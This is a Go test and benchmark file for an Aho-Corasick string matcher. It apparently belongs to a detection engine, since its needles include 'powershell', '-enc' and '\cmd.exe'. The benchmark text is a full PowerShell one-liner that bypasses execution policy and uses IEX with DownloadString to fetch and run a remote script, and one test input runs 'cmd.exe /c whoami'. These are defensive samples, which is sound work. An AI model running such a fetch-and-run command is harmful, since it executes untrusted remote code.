package ahocorasick

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

type collect []int32

func (c *collect) Hit(p int32) {
	if !slices.Contains(*c, p) {
		*c = append(*c, p)
	}
}

// naive is the reference: which payloads' needles occur in the ASCII-folded text.
func naive(needles []string, payloads []int32, text string) []int32 {
	var out []int32
	low := asciiLower(text)
	for i, n := range needles {
		if n != "" && strings.Contains(low, n) && !slices.Contains(out, payloads[i]) {
			out = append(out, payloads[i])
		}
	}
	slices.Sort(out)
	return out
}

func TestScan(t *testing.T) {
	needles := []string{"he", "she", "his", "hers", `\cmd.exe`, "powershell", "-enc", "a"}
	payloads := []int32{0, 1, 2, 3, 4, 5, 6, 7}
	m, err := Build(needles, payloads)
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"", "ushers", `C:\Windows\System32\CMD.EXE /c whoami`, "POWERSHELL -Enc abc", "xyz", "HIS", "h\u00e9rs"} {
		var got collect
		m.Scan(text, &got)
		slices.Sort(got)
		want := naive(needles, payloads, text)
		if !slices.Equal(got, want) {
			t.Errorf("Scan(%q) = %v, want %v", text, got, want)
		}
	}
}

func TestScanRandom(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	alpha := "abcAB-\\ .é"
	word := func(n int) string {
		var b strings.Builder
		for i := 0; i < n; i++ {
			b.WriteByte(alpha[r.IntN(len(alpha))])
		}
		return b.String()
	}
	for round := 0; round < 200; round++ {
		var needles []string
		var payloads []int32
		for i := 0; i < 1+r.IntN(30); i++ {
			needles = append(needles, strings.ToLower(word(1+r.IntN(5))))
			payloads = append(payloads, int32(r.IntN(10)))
		}
		m, err := Build(needles, payloads)
		if err != nil {
			t.Fatal(err)
		}
		for k := 0; k < 20; k++ {
			text := strings.ToLower(word(r.IntN(40)))
			if r.IntN(2) == 0 {
				text = strings.ToUpper(text) // ASCII folding
			}
			var got collect
			m.Scan(text, &got)
			slices.Sort(got)
			// Non-ASCII bytes match exactly, so compare on the ASCII-lowered text.
			want := naive(needles, payloads, text)
			if !slices.Equal(got, want) {
				t.Fatalf("needles %q payloads %v text %q: got %v want %v", needles, payloads, text, got, want)
			}
		}
	}
}

func asciiLower(s string) string {
	b := []byte(s)
	for i, c := range b {
		b[i] = fold(c)
	}
	return string(b)
}

func BenchmarkScan(b *testing.B) {
	r := rand.New(rand.NewPCG(3, 4))
	var needles []string
	var payloads []int32
	for i := 0; i < 5000; i++ {
		n := make([]byte, 6+r.IntN(10))
		for j := range n {
			n[j] = byte('a' + r.IntN(26))
		}
		needles = append(needles, string(n))
		payloads = append(payloads, int32(i))
	}
	m, err := Build(needles, payloads)
	if err != nil {
		b.Fatal(err)
	}
	text := `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://example.org/a.ps1')"`
	var h collect
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		h = h[:0]
		m.Scan(text, &h)
	}
	b.ReportMetric(float64(m.States()), "states")
}
